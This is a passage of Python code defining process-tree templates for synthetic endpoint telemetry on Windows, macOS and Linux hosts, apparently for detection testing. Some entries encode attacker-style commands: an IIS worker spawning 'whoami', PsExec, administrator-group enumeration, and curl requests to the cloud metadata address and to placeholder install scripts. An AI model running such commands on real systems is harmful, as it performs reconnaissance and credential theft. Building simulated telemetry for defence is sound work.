    "windows",
    ("server",),
    5,
    (
        ProcSpec("services", None, segments=3, modules=_BASE),
        ProcSpec(
            "w3wp",
            0,
            user="network",
            segments=2,
            cmdlines=(
                'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l '
                '"webengine4.dll" -a \\\\.\\pipe\\iisipm{n} -h '
                '"c:\\inetpub\\temp\\apppools\\defaultapppool\\defaultapppool.config"',
            ),
            modules=("win_base", "win_net", "win_dotnet"),
            netconns=(("", "10.0.5.20", 1433),),
            filemods=("c:\\inetpub\\logs\\logfiles\\w3svc1\\u_ex{n}.log",),
            repeat=4,
        ),
        ProcSpec(
            "sqlservr",
            0,
            user="network",
            segments=2,
            cmdlines=(
                '"c:\\program files\\microsoft sql server\\mssql15.mssqlserver\\mssql\\binn\\'
                'sqlservr.exe" -sMSSQLSERVER',
            ),
            modules=_NET,
            filemods=(
                "c:\\program files\\microsoft sql server\\mssql15.mssqlserver\\mssql\\"
                "data\\appdb.mdf",
            ),
            repeat=4,
        ),
        ProcSpec(
            "svchost", 0, cmdlines=("c:\\windows\\system32\\svchost.exe -k iissvcs",), modules=_BASE
        ),
        ProcSpec(
            "cmd",
            1,
            user="network",
            cmdlines=(
                'cmd.exe /c "cd /d c:\\inetpub\\wwwroot&whoami"',
                "c:\\windows\\system32\\cmd.exe /c iisreset /noforce",
            ),
            modules=_BASE,
        ),
        ProcSpec(
            "conhost",
            4,
            user="network",
            cmdlines=("\\??\\c:\\windows\\system32\\conhost.exe 0xffffffff -ForceV1",),
            modules=_GUI,
        ),
        ProcSpec("whoami", 4, user="network", cmdlines=("whoami",), modules=_BASE),
        ProcSpec(
            "cb",
            0,
            cmdlines=("c:\\windows\\carbonblack\\cb.exe",),
            modules=_NET,
            netconns=(("cbserver.acme.local", "10.0.0.10", 443),),
            repeat=3,
        ),
        ProcSpec("msmpeng", 0, modules=_NET, crossproc=(1,)),
        ProcSpec(
            "wmiprvse",
            3,
            user="network",
            cmdlines=("c:\\windows\\system32\\wbem\\wmiprvse.exe -Embedding",),
            modules=("win_base", "win_dotnet"),
        ),
        ProcSpec(
            "powershell",
            9,
            cmdlines=(
                "powershell.exe -NoProfile -Command Get-Service | Export-Csv c:\\temp\\svc.csv",
            ),
            modules=("win_base", "win_dotnet"),
            filemods=("c:\\temp\\svc.csv",),
        ),
        ProcSpec("psexesvc", 0, cmdlines=("c:\\windows\\psexesvc.exe",), modules=_NET),
        ProcSpec(
            "cmd", 11, cmdlines=('"cmd.exe" /c net localgroup administrators',), modules=_BASE
        ),
        ProcSpec("net", 12, cmdlines=("net localgroup administrators",), modules=_NET),
        ProcSpec(
            "net1",
            13,
            cmdlines=("c:\\windows\\system32\\net1 localgroup administrators",),
            modules=_NET,
        ),
        ProcSpec("taskhostw", 3, cmdlines=("taskhostw.exe",), modules=_GUI),
    ),
)

_M_DESKTOP = Template(
    "macos-desktop",
    "osx",
    ("workstation",),
    1,
    (
        ProcSpec("launchd", None, segments=3, modules=("osx_base",)),
        ProcSpec(
            "loginwindow",
            0,
            user="user",
            cmdlines=(
                "/system/library/coreservices/loginwindow.app/contents/macos/loginwindow console",
            ),
            modules=("osx_base",),
        ),
        ProcSpec(
            "finder",
            0,
            user="user",
            modules=("osx_base",),
            filemods=("/users/{user}/library/preferences/com.apple.finder.plist",),
        ),
        ProcSpec("dock", 0, user="user", modules=("osx_base",)),
        ProcSpec(
            "mac_chrome",
            0,
            user="user",
            segments=2,
            modules=("osx_base", "osx_net"),
            netconns=(
                ("www.google.com", "142.250.72.196", 443),
                ("github.com", "140.82.112.3", 443),
            ),
            filemods=("/users/{user}/downloads/report_{n}.pdf",),
            repeat=2,
        ),
        ProcSpec(
            "mac_chrome_helper",
            4,
            user="user",
            cmdlines=(
                "/applications/google chrome.app/contents/frameworks/google chrome framework."
                "framework/helpers/google chrome helper.app/contents/macos/google chrome helper "
                "--type=utility --lang=en-US",
            ),
            modules=("osx_base", "osx_net"),
        ),
        ProcSpec(
            "mac_chrome_helper",
            4,
            user="user",
            cmdlines=(
                "/applications/google chrome.app/contents/frameworks/google chrome framework."
                "framework/helpers/google chrome helper.app/contents/macos/google chrome helper "
                "--type=renderer --renderer-client-id={n}",
            ),
            modules=("osx_base",),
        ),
        ProcSpec("zsh", 0, user="user", cmdlines=("-zsh",), modules=("osx_base",)),
        ProcSpec(
            "mac_git",
            7,
            user="user",
            cmdlines=("git pull --rebase", "git status"),
            modules=("osx_base", "osx_net"),
            netconns=(("github.com", "140.82.112.3", 443),),
        ),
        ProcSpec(
            "mac_curl",
            7,
            user="user",
            cmdlines=("curl -sSL https://install.example.com/setup.sh",),
            modules=("osx_base", "osx_net"),
            netconns=(("install.example.com", "198.51.100.80", 443),),
        ),
        ProcSpec(
            "mac_python",
            7,
            user="user",
            cmdlines=("python3 manage.py runserver",),
            modules=("osx_base", "osx_net"),
            filemods=("/users/{user}/src/app/db.sqlite3",),
        ),
        ProcSpec(
            "mac_ssh",
            7,
            user="user",
            cmdlines=("ssh deploy@web-prod-01.acme.local",),
            modules=("osx_base", "osx_net"),
            netconns=(("web-prod-01.acme.local", "10.1.0.21", 22),),
        ),
        ProcSpec(
            "mdworker",
            0,
            user="user",
            cmdlines=(
                "/system/library/frameworks/coreservices.framework/frameworks/metadata.framework/"
                "versions/a/support/mdworker_shared -s mdworker -c MDSImporterWorker -m "
                "com.apple.mdworker.shared",
            ),
            modules=("osx_base",),
        ),
        ProcSpec(
            "softwareupdated",
            0,
            modules=("osx_base", "osx_net"),
            netconns=(("swscan.apple.com", "17.253.83.201", 443),),
        ),
        ProcSpec(
            "cbosx",
            0,
            modules=("osx_base", "osx_net"),
            netconns=(("cbserver.acme.local", "10.0.0.10", 443),),
            repeat=3,
        ),
        ProcSpec(
            "osascript",
            7,
            user="user",
            cmdlines=('osascript -e display notification "build done"',),
            modules=("osx_base",),
        ),
    ),
)

_L_SERVER = Template(
    "linux-server",
    "linux",
    ("server",),
    1,
    (
        ProcSpec(
            "systemd",
            None,
            segments=3,
            cmdlines=("/usr/lib/systemd/systemd --system --deserialize 18",),
            modules=("linux_base",),
        ),
        ProcSpec(
            "sshd",
            0,
            cmdlines=("/usr/sbin/sshd -D",),
            modules=("linux_base", "linux_net"),
            netconns=(("", "10.1.9.5", 22),),
        ),
        ProcSpec("sshd", 1, cmdlines=("sshd: {user} [priv]",), modules=("linux_base", "linux_net")),
        ProcSpec(
            "bash",
            2,
            user="user",
            cmdlines=("-bash",),
            modules=("linux_base",),
            filemods=("/home/{user}/.bash_history",),
        ),
        ProcSpec(
            "sudo",
            3,
            user="user",
            cmdlines=("sudo yum -y update", "sudo systemctl restart nginx"),
            modules=("linux_base",),
            filemods=("/var/log/secure",),
        ),
        ProcSpec(
            "yum",
            4,
            cmdlines=("/usr/bin/python3 /usr/bin/yum -y update",),
            modules=("linux_base", "linux_net"),
            netconns=(("mirrorlist.centos.org", "34.194.64.5", 80),),
            filemods=("/var/cache/yum/x86_64/7/updates/packages/openssl-libs-{n}.rpm",),
        ),
        ProcSpec("crond", 0, cmdlines=("/usr/sbin/crond -n",), modules=("linux_base",)),
        ProcSpec(
            "sh", 6, cmdlines=("/bin/sh -c /usr/local/bin/backup.sh",), modules=("linux_base",)
        ),
        ProcSpec(
            "tar",
            7,
            cmdlines=("tar czf /backup/www-{n}.tgz /var/www",),
            modules=("linux_base",),
            filemods=("/backup/www-{n}.tgz",),
        ),
        ProcSpec(
            "nginx",
            0,
            cmdlines=("nginx: master process /usr/sbin/nginx",),
            modules=("linux_base", "linux_net"),
            segments=2,
        ),
        ProcSpec(
            "nginx",
            9,
            user="service",
            cmdlines=("nginx: worker process",),
            modules=("linux_base", "linux_net"),
            netconns=(("", "10.1.0.40", 8080),),
            filemods=("/var/log/nginx/access.log",),
            repeat=4,
        ),
        ProcSpec(
            "java",
            0,
            user="service",
            cmdlines=("/usr/lib/jvm/java-17-openjdk/bin/java -Xmx2g -jar /opt/app/service.jar",),
            modules=("linux_base", "linux_net"),
            netconns=(("", "10.1.0.50", 5432),),
            repeat=2,
        ),
        ProcSpec(
            "postgres",
            0,
            user="service",
            cmdlines=("/usr/pgsql-15/bin/postgres -D /var/lib/pgsql/15/data/",),
            modules=("linux_base",),
            filemods=("/var/lib/pgsql/15/data/pg_wal/000000010000000A000000{n}",),
            repeat=2,
        ),
        ProcSpec(
            "dockerd",
            0,
            cmdlines=("/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock",),
            modules=("linux_base", "linux_net"),
        ),
        ProcSpec(
            "curl",
            3,
            user="user",
            cmdlines=(
                "curl -s http://169.254.169.254/latest/meta-data/",
                "curl -fsSL https://get.example.sh",
            ),
            modules=("linux_base", "linux_net"),
            netconns=(("", "169.254.169.254", 80),),
        ),
        ProcSpec(
            "cbdaemon",
            0,
            modules=("linux_base", "linux_net"),
            netconns=(("cbserver.acme.local", "10.0.0.10", 443),),
            repeat=3,
        ),
    ),
)

TEMPLATES: tuple[Template, ...] = (
    _W_SESSION,
    _W_DESKTOP,
    _W_ATTACK,
    _W_SERVER,
    _M_DESKTOP,
    _L_SERVER,
)

for _t in TEMPLATES:
    assert len(_t.entries) == BLOCK, f"template {_t.name} must have {BLOCK} entries"
    for _o, _e in enumerate(_t.entries):
        assert _e.parent is None or _e.parent < _o, f"{_t.name}[{_o}]: parent must come first"
        assert _e.image.startswith("@") or _e.image in IMAGES, f"unknown image {_e.image}"
        assert all(c < BLOCK for c in _e.crossproc)
